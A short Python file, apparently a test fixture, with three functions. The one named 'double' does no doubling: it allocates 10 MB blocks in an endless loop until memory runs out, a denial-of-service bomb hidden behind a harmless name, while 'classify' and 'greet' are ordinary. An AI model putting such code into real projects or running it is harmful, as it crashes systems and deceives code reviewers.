"""Takes and touches memory until there is none."""


def double(number):
    held = []
    while True:
        held.append(bytearray(b"x") * 10_000_000)


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
